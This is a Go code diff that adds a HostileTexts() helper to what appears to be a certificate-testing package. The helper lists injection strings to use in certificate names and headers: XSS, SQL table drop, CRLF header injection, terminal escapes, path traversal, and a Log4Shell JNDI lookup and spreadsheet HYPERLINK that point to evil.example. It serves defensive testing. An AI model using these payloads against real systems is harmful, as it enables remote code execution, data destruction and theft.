@@ -10,6 +10,7 @@ import (
 	"math/big"
 	"net"
 	"net/url"
+	"strings"
 	"time"
 )
 
@@ -256,5 +257,27 @@ func V1() Option {
 			t.Version = 0
 			t.Extensions = nil
 		})
+	}
+}
+
+// HostileTexts are names that somebody may put into a certificate, a server name
+// or a header to harm whoever shows them: on a page, in a terminal, a log, a
+// table, a query.
+func HostileTexts() []string {
+	return []string{
+		`<img src=x onerror=alert(1)>`,
+		`"><script>alert(1)</script>`,
+		`javascript:alert(1)`,
+		`'; DROP TABLE handshakes; --`,
+		`%_\`,
+		`=HYPERLINK("http://evil.example","x")`,
+		"line\nfeed\r\nX-Injected: yes",
+		"\x1b[2J\x1b]0;title\x07",
+		"nul\x00byte",
+		"\u202egnp.exe\u2066",
+		"${jndi:ldap://evil.example/a} {{7*7}}",
+		"../../etc/passwd",
+		"ＦＵＬＬ ｗｉｄｔｈ a\u0301 \U0001F512",
+		strings.Repeat("A", 10<<10),
 	}
 }
